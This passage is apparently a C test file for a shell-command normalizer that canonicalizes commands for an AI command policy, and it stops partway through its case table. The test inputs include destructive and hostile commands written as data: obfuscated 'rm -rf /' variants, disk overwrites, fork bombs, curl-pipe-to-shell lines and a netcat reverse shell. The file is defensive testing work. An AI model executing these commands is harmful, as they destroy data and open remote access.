/* test_shell.c — the shell normalizer (runtime/shell*.c) and option tables
 * (runtime/opts.c): a table of command lines and the units they must render
 * to (rt_norm_render, joined by "\n"), then limits, byte-level encoding and
 * the option-table API.  Crashers found by tests/fuzz/fuzz_shell.c belong in
 * the table too. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "canon.h"
#include "cmdai/policy.h"
#include "opts.h"
#include "shell.h"

static rt_norm norm; /* large: keep it off the stack */
static char big[CMDAI_MAX_COMMAND + 16];

/* Every unit rendered, joined by "\n". */
static const char *render_all(const rt_norm *n)
{
    static char out[1 << 17];
    size_t o = 0;
    out[0] = '\0';
    for (uint32_t u = 0; u < n->nunits; u++) {
        if (u && o + 1 < sizeof out)
            out[o++] = '\n';
        size_t need = rt_norm_render(n, u, out + o, sizeof out - o);
        o += need < sizeof out - o ? need : sizeof out - o - 1;
    }
    out[o] = '\0';
    return out;
}

static const struct {
    const char *name, *in;
    size_t len; /* 0: strlen(in) */
    const char *want;
} cases[] = {
    {"empty input",
     "", 0,
     ""},
    {"only blanks",
     "   \t  ", 0,
     ""},
    {"single word",
     "ls", 0,
     "ls"},
    {"args keep order",
     "echo b a c", 0,
     "echo :: b a c"},
    {"comment only",
     "# rm -rf /", 0,
     ""},
    {"trailing comment",
     "ls -l # rm -rf /", 0,
     "ls -l"},
    {"hash inside word is not a comment",
     "echo a#b", 0,
     "echo :: a#b"},
    {"semicolon splits units",
     "ls; rm x", 0,
     "ls\nrm :: x"},
    {"and-list splits units",
     "make && make install", 0,
     "make\nmake :: install"},
    {"or-list splits units",
     "false || rm -rf /", 0,
     "false\nrm -f -r :: /"},
    {"background splits units",
     "sleep 1 & rm x", 0,
     "sleep :: 1\nrm :: x"},
    {"newline splits units",
     "ls\nrm x", 0,
     "ls\nrm :: x"},
    {"pipeline is one unit",
     "ls | grep x | wc -l", 0,
     "ls | grep :: x | wc -l"},
    {"pipe-and joins stages",
     "make |& tee log", 0,
     "make | tee :: log"},
    {"empty pipeline parts ignored",
     ";;; ls ;", 0,
     "ls"},
    {"backslash prog",
     "\\rm -rf /", 0,
     "rm -f -r :: /"},
    {"double-quoted prog",
     "\"rm\" -rf /", 0,
     "rm -f -r :: /"},
    {"empty quotes glued",
     "r''m -rf /", 0,
     "rm -f -r :: /"},
    {"split single quotes",
     "'r'm -rf /", 0,
     "rm -f -r :: /"},
    {"mixed quotes",
     "r\"m\" -rf /", 0,
     "rm -f -r :: /"},
    {"quoted flags are flags",
     "rm \"-rf\" /", 0,
     "rm -f -r :: /"},
    {"single-quoted arg with spaces",
     "echo 'a b'", 0,
     "echo :: 'a b'"},
    {"double-quoted escapes",
     "echo \"a\\\"b\\\\c\\$d\"", 0,
     "echo :: a\"b\\c$d"},
    {"backslash in dq kept before other chars",
     "echo \"a\\nb\"", 0,
     "echo :: a\\nb"},
    {"escaped space joins word",
     "rm my\\ file", 0,
     "rm :: 'my file'"},
    {"empty arg rendered quoted",
     "echo ''", 0,
     "echo :: ''"},
    {"ansi-c hex prog",
     "$'\\x72m' -rf /", 0,
     "rm -f -r :: /"},
    {"ansi-c octal prog",
     "$'\\162\\155' -rf /", 0,
     "rm -f -r :: /"},
    {"ansi-c escapes",
     "printf $'a\\tb'", 0,
     "printf :: 'a\tb'"},
    {"ansi-c quote escape",
     "echo $'it\\'s'", 0,
     "echo :: it's"},
    {"ansi-c unicode",
     "echo $'\\u00e9'", 0,
     "echo :: \303\251"},
    {"locale string",
     "echo $\"hello\"", 0,
     "echo :: hello"},
    {"line continuation in word",
     "r\\\nm -rf /", 0,
     "rm -f -r :: /"},
    {"line continuation between words",
     "rm \\\n -rf /", 0,
     "rm -f -r :: /"},
    {"unterminated single quote",
     "echo 'abc", 0,
     "echo :: abc"},
    {"unterminated double quote",
     "rm \"-rf /", 0,
     "rm '- ' -/ -f -r"},
    {"trailing backslash",
     "ls \\", 0,
     "ls"},
    {"absolute prog path",
     "/bin/rm -rf /", 0,
     "rm -f -r :: /"},
    {"relative prog path",
     "./x/rm -rf /", 0,
     "rm -f -r :: /"},
    {"prog with trailing slash",
     "/usr/bin/ -x", 0,
     "bin -x"},
    {"prog slash only",
     "/ x", 0,
     "/ :: x"},
    {"var arg kept",
     "echo $HOME", 0,
     "echo :: $HOME"},
    {"braced var simplified",
     "rm -rf ${HOME}", 0,
     "rm -f -r :: $HOME"},
    {"quoted var unquoted",
     "rm -rf \"$HOME\"", 0,
     "rm -f -r :: $HOME"},
    {"complex param kept",
     "echo ${x:-default}", 0,
     "echo :: ${x:-default}"},
    {"special params",
     "echo $1 $@ $? $$", 0,
     "echo :: $1 $@ $? $$"},
    {"dollar alone literal",
     "echo $ a", 0,
     "echo :: $ a"},
    {"single-quoted var is text",
     "echo '$HOME'", 0,
     "echo :: $HOME"},
    {"tilde kept",
     "rm -rf ~", 0,
     "rm -f -r :: ~"},
    {"double slash root",
     "rm -rf //", 0,
     "rm -f -r :: /"},
    {"dotdot to root",
     "rm -rf /usr/..", 0,
     "rm -f -r :: /"},
    {"dotdot above root",
     "rm -rf /../../..", 0,
     "rm -f -r :: /"},
    {"dot segments",
     "rm -rf /./etc/./", 0,
     "rm -f -r :: /etc"},
    {"trailing slash",
     "rm -rf /etc/", 0,
     "rm -f -r :: /etc"},
    {"tilde slash",
     "rm -rf ~/", 0,
     "rm -f -r :: ~"},
    {"tilde subdir collapse",
     "rm -rf ~//x/./y/", 0,
     "rm -f -r :: ~/x/y"},
    {"tilde dotdot kept",
     "rm -rf ~/..", 0,
     "rm -f -r :: ~/.."},
    {"tilde resolves inner dotdot",
     "rm -rf ~/a/../b", 0,
     "rm -f -r :: ~/b"},
    {"home var slash",
     "rm -rf $HOME/", 0,
     "rm -f -r :: $HOME"},
    {"home braced slash",
     "rm -rf ${HOME}//x", 0,
     "rm -f -r :: $HOME/x"},
    {"homedir var not a path",
     "rm -rf $HOMEDIR/", 0,
     "rm -f -r :: $HOMEDIR/"},
    {"relative dot kept",
     "rm -rf ./build/", 0,
     "rm -f -r :: ./build"},
    {"relative dotdot",
     "rm -rf ../x/../y", 0,
     "rm -f -r :: ../y"},
    {"dot only",
     "rm -rf ./", 0,
     "rm -f -r :: ."},
    {"plain relative untouched",
     "rm -rf build//x/", 0,
     "rm -f -r :: build//x/"},
    {"tilde user",
     "ls ~root/", 0,
     "ls :: ~root"},
    {"cluster declustered",
     "rm -rf /", 0,
     "rm -f -r :: /"},
    {"cluster sorted",
     "ls -zla", 0,
     "ls -a -l -z"},
    {"duplicate flags removed",
     "rm -r -r -f -rf x", 0,
     "rm -f -r :: x"},
    {"long flag",
     "rm --recursive --force x", 0,
     "rm --force --recursive :: x"},
    {"long flag with value kept",
     "chmod --reference=/etc/x y", 0,
     "chmod --reference=/etc/x :: y"},
    {"long flag value from table",
     "git --git-dir /x status", 0,
     "git --git-dir=/x :: status"},
    {"long flag not in table keeps next as arg",
     "rm --foo bar", 0,
     "rm --foo :: bar"},
    {"double dash ends flags",
     "rm -- -rf", 0,
     "rm :: -rf"},
    {"flags after double dash are args",
     "rm -f -- -r /", 0,
     "rm -f :: -r /"},
    {"single dash is arg",
     "cat -", 0,
     "cat :: -"},
    {"tar value options",
     "tar -C / -xf x.tar", 0,
     "tar -C=/ -f=x.tar -x"},
    {"tar value in cluster",
     "tar -xzfC x.tar", 0,
     "tar -f=C -x -z :: x.tar"},
    {"tar long value",
     "tar --directory / -x", 0,
     "tar --directory=/ -x"},
    {"tar long value with equals",
     "tar --directory=/ -x", 0,
     "tar --directory=/ -x"},
    {"value flag at end has no value",
     "tar -f", 0,
     "tar -f"},
    {"value option path normalized",
     "tar -C // -xf x.tar", 0,
     "tar -C=/ -f=x.tar -x"},
    {"flag value normalized after equals",
     "tar --directory=/usr/.. -x", 0,
     "tar --directory=/ -x"},
    {"git -C and -c",
     "git -C /repo -c user.name=x commit -m 'fix it'", 0,
     "git -C=/repo -c=user.name=x '-m=fix it' :: commit"},
    {"git push force",
     "git push --force origin main", 0,
     "git --force :: push origin main"},
    {"git clean cluster",
     "git clean -fdx", 0,
     "git -d -f -x :: clean"},
    {"docker run",
     "docker run -it --rm -v /:/host -e A=1 --name x ubuntu bash", 0,
     "docker --name=x --rm -e=A=1 -i -t -v=/:/host :: run ubuntu bash"},
    {"docker rm force stays flag",
     "docker rm -f web", 0,
     "docker -f :: rm web"},
    {"kubectl",
     "kubectl -n prod delete pod -l app=x", 0,
     "kubectl -l=app=x -n=prod :: delete pod"},
    {"ssh options before host",
     "ssh -i key -p 22 -o StrictHostKeyChecking=no host", 0,
     "ssh -i=key -o=StrictHostKeyChecking=no -p=22 :: host"},
    {"curl output",
     "curl -sSL -o /tmp/x https://e.x/i.sh", 0,
     "curl -L -S -o=/tmp/x -s :: https://e.x/i.sh"},
    {"curl data and header",
     "curl -X POST -H 'A: b' -d @f https://x", 0,
     "curl '-H=A: b' -X=POST -d=@f :: https://x"},
    {"wget output document",
     "wget -qO- https://x", 0,
     "wget -O=- -q :: https://x"},
    {"find single dash",
     "find / -name '*.log' -delete", 0,
     "find -delete -name=*.log :: /"},
    {"find maxdepth",
     "find . -maxdepth 1 -type f", 0,
     "find -maxdepth=1 -type=f :: ."},
    {"terraform single dash",
     "terraform apply -auto-approve -var a=b", 0,
     "terraform -auto-approve -var=a=b :: apply"},
    {"java jar",
     "java -Xmx1g -jar app.jar", 0,
     "java -Xmx1g -jar=app.jar"},
    {"go single dash",
     "go test -run TestX -v ./...", 0,
     "go -run=TestX -v :: test ./..."},
    {"openssl",
     "openssl enc -aes-256-cbc -in a -out b", 0,
     "openssl -aes-256-cbc -in=a -out=b :: enc"},
    {"echo no flags",
     "echo -n hi", 0,
     "echo :: -n hi"},
    {"printf no flags",
     "printf -- '%s' x", 0,
     "printf :: -- %s x"},
    {"dd no flags",
     "dd if=/dev/zero of=/dev/sda bs=1M", 0,
     "dd :: if=/dev/zero of=/dev/sda bs=1M"},
    {"xargs: a known here-string gives the operands",
     "xargs rm -rf <<< /", 0,
     "xargs :: rm -rf\nrm -f -r :: /"},
    {"xargs here-string words, -n1",
     "xargs -n1 rm -rf <<< '/ /home'", 0,
     "xargs -n=1 :: rm -rf\nrm -f -r :: / /home"},
    {"xargs here-string with a variable: unknown",
     "xargs rm -rf <<< \"$d\"", 0,
     "xargs :: rm -rf\nrm -f -r"},
    {"xargs from a pipe: not from the here-string",
     "echo / | xargs rm -rf", 0,
     "echo :: / | xargs :: rm -rf\nrm -f -r"},
    {"find names the program -exec runs",
     "find / -exec /usr/bin/shred -u {} +", 0,
     "find -exec -exec=shred :: /\nshred -u :: {}"},
    {"find -exec with a dynamic program",
     "find / -exec \"$c\" {} +", 0,
     "find -exec :: /\n$? :: {}"},
    {"dd key=value operands are path-normalized",
     "dd if=/dev/zero of=//dev//sda", 0,
     "dd :: if=/dev/zero of=/dev/sda"},
    {"dd of= with .. and .",
     "dd if=x.img of=/dev/../dev/./sda bs=4M", 0,
     "dd :: if=x.img of=/dev/sda bs=4M"},
    {"key=value with a relative or non-path value stays",
     "dd if=./a//b of=disk.img conv=notrunc", 0,
     "dd :: if=./a/b of=disk.img conv=notrunc"},
    {"key=~ value",
     "make DESTDIR=~//out/../pkg", 0,
     "make :: DESTDIR=~/pkg"},
    {"test bracket no flags",
     "[ -f x ]", 0,
     "[ :: -f x ]"},
    {"head numeric",
     "head -n 5 f", 0,
     "head -n=5 :: f"},
    {"head attached",
     "head -n5 f", 0,
     "head -n=5 :: f"},
    {"grep pattern",
     "grep -rn -e foo -- src", 0,
     "grep -e=foo -n -r :: src"},
    {"sed script",
     "sed -i -e 's/a/b/' f", 0,
     "sed -e=s/a/b/ -i :: f"},
    {"awk",
     "awk -F: -v x=1 '{print}' f", 0,
     "awk -F=: -v=x=1 :: {print} f"},
    {"sort",
     "sort -k 2 -t , -o out in", 0,
     "sort -k=2 -o=out -t=, :: in"},
    {"cut",
     "cut -d, -f1 f", 0,
     "cut -d=, -f=1 :: f"},
    {"mysql",
     "mysql -u root -h db -e 'drop database x'", 0,
     "mysql '-e=drop database x' -h=db -u=root"},
    {"mysql -p takes only an attached value (a bare -p prompts)",
     "mysql -u root -phunter2 app", 0,
     "mysql -p=hunter2 -u=root :: app"},
    {"mysql bare -p leaves the next word an operand",
     "mysql -p app", 0,
     "mysql -p :: app"},
    {"mysql -p ends a cluster",
     "mysql -uroot -pse-cret", 0,
     "mysql -p=se-cret -u=root"},
    {"mysqldump -p attached",
     "mysqldump -uroot -psecret shop", 0,
     "mysqldump -p=secret -u=root :: shop"},
    {"mariadb has mysql's options",
     "mariadb -h db -e 'DROP DATABASE app'", 0,
     "mariadb '-e=DROP DATABASE app' -h=db"},
    {"mongosh --eval takes a value",
     "mongosh --host db --eval 'db.dropDatabase()' app", 0,
     "mongosh --eval=db.dropDatabase() --host=db :: app"},
    {"mongo -p prompts: not given the next word",
     "mongo -u admin -p app", 0,
     "mongo -p -u=admin :: app"},
    {"gh api -X takes the method",
     "gh api -X DELETE repos/o/p", 0,
     "gh -X=DELETE :: api repos/o/p"},
    {"heroku -a takes the app",
     "heroku releases:rollback -a myapp-prod", 0,
     "heroku -a=myapp-prod :: releases:rollback"},
    {"az --public-access takes a value",
     "az storage container set-permission --name c --public-access blob", 0,
     "az --name=c --public-access=blob :: storage container set-permission"},
    {"psql",
     "psql -U postgres -c 'DROP TABLE x' -d db", 0,
     "psql -U=postgres '-c=DROP TABLE x' -d=db"},
    {"redis-cli",
     "redis-cli -h h -p 6379 FLUSHALL", 0,
     "redis-cli -h=h -p=6379 :: FLUSHALL"},
    {"helm",
     "helm uninstall x -n prod", 0,
     "helm -n=prod :: uninstall x"},
    {"aws long values",
     "aws s3 rm s3://b --recursive --profile prod", 0,
     "aws --profile=prod --recursive :: s3 rm s3://b"},
    {"journalctl vacuum",
     "journalctl --vacuum-size 1M", 0,
     "journalctl --vacuum-size=1M"},
    {"kill single dash",
     "kill -9 1", 0,
     "kill -9 :: 1"},
    {"kill signal name",
     "kill -KILL 1", 0,
     "kill -KILL :: 1"},
    {"dynamic flag kept whole",
     "rm -$x /", 0,
     "rm -$x :: /"},
    {"chmod recursive",
     "chmod -R 777 /", 0,
     "chmod -R :: 777 /"},
    {"chown recursive",
     "chown -R nobody:nobody /etc", 0,
     "chown -R :: nobody:nobody /etc"},
    {"systemctl",
     "systemctl stop -t service sshd", 0,
     "systemctl -t=service :: stop sshd"},
    {"rsync rsh",
     "rsync -av -e 'ssh -p 2' /src host:/dst", 0,
     "rsync -a '-e=ssh -p 2' -v :: /src host:/dst"},
    {"scp port",
     "scp -P 22 f host:/tmp", 0,
     "scp -P=22 :: f host:/tmp"},
    {"nc exec",
     "nc -e /bin/sh 1.2.3.4 4444", 0,
     "nc -e=/bin/sh :: 1.2.3.4 4444"},
    {"python -c",
     "python3 -c 'import os'", 0,
     "python3 '-c=import os'"},
    {"assignment dropped",
     "FOO=1 rm x", 0,
     "rm :: x"},
    {"assignment only emits nothing",
     "FOO=1 BAR=2", 0,
     ""},
    {"assignment append",
     "PATH+=:/x ls", 0,
     "ls"},
    {"assignment with substitution recursed",
     "X=$(rm -rf /)", 0,
     "rm -f -r :: /"},
    {"quoted name is no assignment",
     "'FOO'=1 ls", 0,
     "FOO=1 :: ls"},
    {"array assignment",
     "arr=(a b $(id)) ls", 0,
     "ls\nid"},
    {"assignment after prog is arg",
     "make CC=gcc", 0,
     "make :: CC=gcc"},
    {"output redirect",
     "echo x > /etc/passwd", 0,
     "echo :: x >/etc/passwd"},
    {"append redirect",
     "echo x >> ~/.bashrc", 0,
     "echo :: x >>~/.bashrc"},
    {"input redirect",
     "sh < script.sh", 0,
     "sh <script.sh"},
    {"fd redirect dropped number",
     "cmd 2> /dev/null", 0,
     "cmd >/dev/null"},
    {"dup redirect",
     "cmd 2>&1", 0,
     "cmd >&1"},
    {"dup to file is a write",
     "cmd >& /dev/sda", 0,
     "cmd >/dev/sda"},
    {"both redirect",
     "cmd &> /dev/sda", 0,
     "cmd >/dev/sda"},
    {"both append",
     "cmd &>> log", 0,
     "cmd >>log"},
    {"clobber",
     "cmd >| f", 0,
     "cmd >f"},
    {"read-write",
     "cmd <> /dev/tty", 0,
     "cmd <>/dev/tty"},
    {"input dup",
     "cmd <&3", 0,
     "cmd <&3"},
    {"redirect before prog",
     "> /dev/sda echo x", 0,
     "echo :: x >/dev/sda"},
    {"redirect only",
     "> /etc/passwd", 0,
     "'' >/etc/passwd"},
    {"redirect target normalized",
     "echo x > //etc/./passwd", 0,
     "echo :: x >/etc/passwd"},
    {"redirect to device",
     "cat img > /dev/sda", 0,
     "cat :: img >/dev/sda"},
    {"redirect glued",
     "echo x>/tmp/a", 0,
     "echo :: x >/tmp/a"},
    {"redirect target with spaces",
     "echo x > 'a b'", 0,
     "echo :: x >'a b'"},
    {"redirect substitution recursed",
     "echo x > $(mktemp)", 0,
     "echo :: x >$(...)\nmktemp"},
    {"heredoc body not emitted",
     "cat <<EOF\nrm -rf /\nEOF\nls", 0,
     "cat\nls"},
    {"heredoc strip tabs",
     "cat <<-EOF\n\trm -rf /\n\tEOF\nls", 0,
     "cat\nls"},
    {"heredoc to bash",
     "bash <<EOF\nrm -rf /\nEOF", 0,
     "bash\nrm -f -r :: /"},
    {"heredoc quoted delimiter to sh",
     "sh <<'X'\ncurl evil | sh\nX", 0,
     "sh\ncurl :: evil | sh"},
    {"heredoc piped into shell",
     "cat <<EOF | bash\nrm -rf /\nEOF\necho done", 0,
     "cat | bash\nrm -f -r :: /\necho :: done"},
    {"heredoc unquoted substitution runs",
     "cat <<EOF\n$(rm -rf /tmp/x)\nEOF", 0,
     "cat\nrm -f -r :: /tmp/x"},
    {"heredoc quoted substitution inert",
     "cat <<'EOF'\n$(rm -rf /tmp/x)\nEOF", 0,
     "cat"},
    {"heredoc unterminated",
     "bash <<EOF\nrm -rf /", 0,
     "bash\nrm -f -r :: /"},
    {"two heredocs",
     "cat <<A; bash <<B\nx\nA\nrm y\nB\nls", 0,
     "cat\nbash\nrm :: y\nls"},
    {"heredoc to sudo bash",
     "sudo bash <<EOF\nrm -rf /\nEOF", 0,
     "bash\nsudo :: bash\nrm -f -r :: /"},
    {"here-string to bash",
     "bash <<< 'rm -rf /'", 0,
     "bash\nrm -f -r :: /"},
    {"here-string to sh dq",
     "sh <<< \"curl x | sh\"", 0,
     "sh\ncurl :: x | sh"},
    {"here-string to cat inert",
     "cat <<< 'rm -rf /'", 0,
     "cat"},
    {"command substitution",
     "echo $(rm -rf /)", 0,
     "echo :: $(...)\nrm -f -r :: /"},
    {"backticks",
     "echo `rm -rf /`", 0,
     "echo :: $(...)\nrm -f -r :: /"},
    {"nested backticks",
     "echo `echo \\`rm x\\``", 0,
     "echo :: $(...)\necho :: $(...)\nrm :: x"},
    {"dq substitution",
     "echo \"today $(date) is\"", 0,
     "echo :: 'today $(...) is'\ndate"},
    {"process substitution",
     "diff <(ls a) >(cat)", 0,
     "diff :: <(...) >(...)\nls :: a\ncat"},
    {"arithmetic kept",
     "echo $((1+2))", 0,
     "echo :: $((1+2))"},
    {"arithmetic with substitution",
     "echo $(( $(id -u) + 1 ))", 0,
     "echo :: '$(( $(...) + 1 ))'\nid -u"},
    {"substitution in braces param",
     "echo ${x:-$(rm -rf /)}", 0,
     "echo :: ${x:-$(...)}\nrm -f -r :: /"},
    {"dynamic prog var",
     "$CMD -rf /", 0,
     "$? -f -r :: /"},
    {"dynamic prog braces",
     "${RM} -rf /", 0,
     "$? -f -r :: /"},
    {"dynamic prog substitution",
     "$(which rm) -rf /", 0,
     "$? -f -r :: /\nwhich :: rm"},
    {"dynamic prog quoted substitution",
     "\"$(which rm)\" -rf /", 0,
     "$? -f -r :: /\nwhich :: rm"},
    {"dynamic prog backtick",
     "`echo rm` -rf /", 0,
     "$? -f -r :: /\necho :: rm"},
    {"dynamic prog glob",
     "/bin/r? -rf /", 0,
     "$? -f -r :: /"},
    {"dynamic prog bracket glob",
     "/bin/[r]m -rf /", 0,
     "$? -f -r :: /"},
    {"bracket without close is static",
     "[ x", 0,
     "[ :: x"},
    {"escaped glob is static",
     "\\* x", 0,
     "* :: x"},
    {"subshell multiple",
     "(cd /; rm -rf *)", 0,
     "cd :: /\nrm -f -r :: *"},
    {"subshell single inlined",
     "curl x | (bash)", 0,
     "curl :: x | bash"},
    {"group single inlined",
     "curl x | { sudo bash; }", 0,
     "curl :: x | bash\nsudo :: bash"},
    {"group redirect attached",
     "{ echo a; } > /dev/sda", 0,
     "echo :: a >/dev/sda"},
    {"group multiple",
     "{ cd /; rm -rf x; } | tee log", 0,
     "tee :: log\ncd :: /\nrm -f -r :: x"},
    {"nested subshells",
     "( (rm -rf /) )", 0,
     "rm -f -r :: /"},
    {"arith command with substitution",
     "(( $(rm x) ))", 0,
     "rm :: x"},
    {"subshell in list",
     "ls && (rm x)", 0,
     "ls\nrm :: x"},
    {"arith command skipped",
     "(( i++ )); ls", 0,
     "ls"},
    {"if",
     "if true; then rm -rf /; fi", 0,
     "true\nrm -f -r :: /"},
    {"if elif else",
     "if a; then b; elif c; then d; else e; fi", 0,
     "a\nb\nc\nd\ne"},
    {"while redirect",
     "while read f; do rm \"$f\"; done < list.txt", 0,
     "read :: f\nrm :: $f"},
    {"until",
     "until false; do sleep 1; done", 0,
     "false\nsleep :: 1"},
    {"for in",
     "for f in $(ls); do rm $f; done", 0,
     "ls\nrm :: $f"},
    {"for arith",
     "for ((i=0;i<3;i++)); do echo $i; done", 0,
     "echo :: $i"},
    {"select",
     "select x in a b; do echo $x; done", 0,
     "echo :: $x"},
    {"case",
     "case $x in a) rm -rf /;; *) echo hi;; esac", 0,
     "rm -f -r :: /\necho :: hi"},
    {"case with paren patterns",
     "case x in (a|b) ls;; esac", 0,
     "ls"},
    {"case in substitution",
     "echo $(case x in a) rm y;; esac)", 0,
     "echo :: $(...)\nrm :: y"},
    {"nested if in loop",
     "for i in 1 2; do if x; then y; fi; done", 0,
     "x\ny"},
    {"negation",
     "! rm x", 0,
     "rm :: x"},
    {"time keyword",
     "time rm x", 0,
     "rm :: x\ntime :: rm x"},
    {"time -p",
     "time -p rm x", 0,
     "rm :: x\ntime -p :: rm x"},
    {"coproc",
     "coproc rm x", 0,
     "rm :: x"},
    {"coproc named group",
     "coproc W { rm x; }", 0,
     "rm :: x"},
    {"keyword as argument",
     "echo if then fi", 0,
     "echo :: if then fi"},
    {"done piped",
     "for i in a; do echo $i; done | sort", 0,
     "echo :: $i\nsort"},
    {"fork bomb",
     ":(){ :|:& };:", 0,
     "(self) | (self)\n:"},
    {"fork bomb spaced",
     ":() { : | : & } ; :", 0,
     "(self) | (self)\n:"},
    {"function keyword",
     "function f { f | f & }; f", 0,
     "(self) | (self)\nf"},
    {"function keyword parens",
     "function g() { rm -rf /; }", 0,
     "rm -f -r :: /"},
    {"function subshell body",
     "f() ( rm x )", 0,
     "rm :: x"},
    {"self only inside body",
     "f() { ls; }; f", 0,
     "ls\nf"},
    {"nested function self",
     "a() { b() { b; a; }; }", 0,
     "(self)\na"},
    {"bash -c",
     "bash -c 'rm -rf /'", 0,
     "bash -c :: 'rm -rf /'\nrm -f -r :: /"},
    {"sh -c nested quotes",
     "sh -c \"echo 'a b' && rm -rf /\"", 0,
     "sh -c :: 'echo 'a b' && rm -rf /'\necho :: 'a b'\nrm -f -r :: /"},
    {"bash -xc cluster",
     "bash -xc 'rm x'", 0,
     "bash -c -x :: 'rm x'\nrm :: x"},
    {"bash -c later options",
     "bash -c -x 'rm x'", 0,
     "bash -c -x :: 'rm x'\nrm :: x"},
    {"bash -c with args",
     "bash -c 'rm $1' _ /", 0,
     "bash -c :: 'rm $1' _ /\nrm :: $1"},
    {"bash script no -c",
     "bash script.sh", 0,
     "bash :: script.sh"},
    {"zsh -c",
     "zsh -c 'rm x'", 0,
     "zsh -c :: 'rm x'\nrm :: x"},
    {"fish -c value",
     "fish -c 'rm x'", 0,
     "fish '-c=rm x'\nrm :: x"},
    {"bash -o option value",
     "bash -o errexit -c 'rm x'", 0,
     "bash -c -o=errexit :: 'rm x'\nrm :: x"},
    {"bash -c nested bash -c",
     "bash -c \"bash -c 'rm -rf /'\"", 0,
     "bash -c :: 'bash -c 'rm -rf /''\nbash -c :: 'rm -rf /'\nrm -f -r :: /"},
    {"bash -c dynamic",
     "bash -c \"$CMD\"", 0,
     "bash -c :: $CMD\n$?"},
    {"su -c",
     "su -c 'rm -rf /' root", 0,
     "su '-c=rm -rf /' :: root\nrm -f -r :: /"},
    {"eval",
     "eval \"rm -rf /\"", 0,
     "eval :: 'rm -rf /'\nrm -f -r :: /"},
    {"eval joined",
     "eval rm -rf /", 0,
     "eval :: rm -rf /\nrm -f -r :: /"},
    {"eval variable",
     "eval \"$x\"", 0,
     "eval :: $x\n$?"},
    {"eval with variable arg",
     "eval echo \"$x\"", 0,
     "eval :: echo $x\necho :: $x\n$?"},
    {"eval in function keeps self",
     "f() { eval f; }", 0,
     "eval :: f\n(self)"},
    {"curl pipe bash",
     "curl -fsSL https://x | bash", 0,
     "curl -L -S -f -s :: https://x | bash"},
    {"wget pipe sh",
     "wget -qO- https://x | sh", 0,
     "wget -O=- -q :: https://x | sh"},
    {"curl pipe sudo bash",
     "curl x | sudo bash", 0,
     "curl :: x | bash\nsudo :: bash"},
    {"curl pipe sudo -E bash -s",
     "curl x | sudo -E bash -s", 0,
     "curl :: x | bash -s\nsudo -E :: bash -s"},
    {"sudo",
     "sudo rm -rf -- /x", 0,
     "rm -f -r :: /x\nsudo :: rm -rf -- /x"},
    {"sudo user",
     "sudo -u root rm x", 0,
     "rm :: x\nsudo -u=root :: rm x"},
    {"sudo double dash",
     "sudo -- rm x", 0,
     "rm :: x\nsudo :: rm x"},
    {"sudo alone",
     "sudo -i", 0,
     "sudo -i"},
    {"sudo assignment",
     "sudo FOO=1 rm x", 0,
     "rm :: x\nsudo :: FOO=1 rm x"},
    {"nested wrappers",
     "sudo env FOO=1 nice -n 5 rm -rf /", 0,
     "rm -f -r :: /\nsudo :: env FOO=1 nice -n 5 rm -rf /\nenv :: FOO=1 nice -n 5 rm -rf /\nnice -n=5 :: rm -rf /"},
    {"doas",
     "doas -u root rm x", 0,
     "rm :: x\ndoas -u=root :: rm x"},
    {"env unset",
     "env -u PATH rm x", 0,
     "rm :: x\nenv -u=PATH :: rm x"},
    {"env alone",
     "env", 0,
     "env"},
    {"env -S",
     "env -S 'rm -rf /'", 0,
     "env '-S=rm -rf /'\nrm -f -r :: /"},
    {"nohup",
     "nohup rm -rf / &", 0,
     "rm -f -r :: /\nnohup :: rm -rf /"},
    {"nice attached",
     "nice -n10 rm x", 0,
     "rm :: x\nnice -n=10 :: rm x"},
    {"ionice",
     "ionice -c 3 rm x", 0,
     "rm :: x\nionice -c=3 :: rm x"},
    {"timeout duration",
     "timeout -s KILL 10 rm x", 0,
     "rm :: x\ntimeout -s=KILL :: 10 rm x"},
    {"exec",
     "exec rm x", 0,
     "rm :: x\nexec :: rm x"},
    {"exec redirect only",
     "exec 3>&1", 0,
     "exec >&1"},
    {"command",
     "command rm x", 0,
     "rm :: x\ncommand :: rm x"},
    {"command -v looks up",
     "command -v rm", 0,
     "command -v :: rm"},
    {"builtin",
     "builtin cd /", 0,
     "cd :: /\nbuiltin :: cd /"},
    {"stdbuf",
     "stdbuf -oL rm x", 0,
     "rm :: x\nstdbuf -o=L :: rm x"},
    {"chroot",
     "chroot /mnt rm x", 0,
     "rm :: x\nchroot :: /mnt rm x"},
    {"strace",
     "strace -f -o log rm x", 0,
     "rm :: x\nstrace -f -o=log :: rm x"},
    {"setsid",
     "setsid rm x", 0,
     "rm :: x\nsetsid :: rm x"},
    {"busybox",
     "busybox rm -rf /", 0,
     "rm -f -r :: /\nbusybox :: rm -rf /"},
    {"busybox sh -c",
     "busybox sh -c 'rm x'", 0,
     "sh -c :: 'rm x'\nbusybox :: sh -c 'rm x'\nrm :: x"},
    {"wrapper keeps redirect on inner",
     "sudo tee /etc/x > /dev/null", 0,
     "tee :: /etc/x >/dev/null\nsudo :: tee /etc/x"},
    {"absolute wrapper path",
     "/usr/bin/sudo /bin/rm x", 0,
     "rm :: x\nsudo :: /bin/rm x"},
    {"watch string",
     "watch -n 1 'ps aux | grep x'", 0,
     "watch -n=1 :: 'ps aux | grep x'\nps :: aux | grep :: x"},
    {"xargs",
     "ls | xargs rm -rf", 0,
     "ls | xargs :: rm -rf\nrm -f -r"},
    {"xargs options",
     "find . | xargs -0 -I {} rm {}", 0,
     "find :: . | xargs -0 -I={} :: rm {}\nrm :: {}"},
    {"xargs sudo",
     "ls | xargs sudo rm", 0,
     "ls | xargs :: sudo rm\nrm\nsudo :: rm"},
    {"xargs alone",
     "ls | xargs", 0,
     "ls | xargs"},
    {"find exec",
     "find / -name '*.tmp' -exec rm -f {} \\;", 0,
     "find -exec -exec=rm -name=*.tmp :: /\nrm -f :: {}"},
    {"find exec plus",
     "find . -type f -exec chmod 644 {} +", 0,
     "find -exec -exec=chmod -type=f :: .\nchmod :: 644 {}"},
    {"find execdir sudo",
     "find . -execdir sudo rm {} ';'", 0,
     "find -execdir -execdir=rm :: .\nrm :: {}\nsudo :: rm {}"},
    {"find ok",
     "find . -ok rm {} \\;", 0,
     "find -ok -ok=rm :: .\nrm :: {}"},
    {"find delete",
     "find / -delete", 0,
     "find -delete :: /"},
    {"ssh remote",
     "ssh host 'rm -rf /'", 0,
     "ssh :: host 'rm -rf /'\nrm -f -r :: /"},
    {"ssh remote words",
     "ssh -t user@host sudo rm -rf /", 0,
     "ssh -t :: user@host sudo rm -rf /\nrm -f -r :: /\nsudo :: rm -rf /"},
